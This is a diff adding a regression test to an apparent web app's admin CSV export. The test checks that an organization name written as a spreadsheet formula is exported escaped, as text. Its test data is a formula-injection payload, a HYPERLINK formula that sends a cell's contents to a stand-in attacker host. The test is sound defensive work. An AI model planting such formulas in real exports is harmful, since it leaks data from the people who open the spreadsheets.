@@ -175,3 +175,17 @@ def test_only_staff_see_the_counts(app, people, who):
 
 def test_admins_see_the_counts(app, people):
     assert browser(app, people.admin).get("/admin/contacts").status_code == 200
+
+
+def test_a_name_that_is_a_formula_is_written_as_text(app, people, october):
+    """Issue #14: a club named like a spreadsheet formula landed raw in the staff CSV."""
+    from marketplace.accounts.models import Organization
+    from tests.factories import app_session
+
+    formula = '=HYPERLINK("http://evil.example/?d="&B2,"Xem")'
+    with app_session(app) as session:
+        session.get(Organization, people.club.id).name = formula
+        session.commit()
+    response = browser(app, people.staff).get("/admin/contacts?from=01/10/2026&to=2026-10-31&format=csv")
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    assert rows[1][0] == "'" + formula
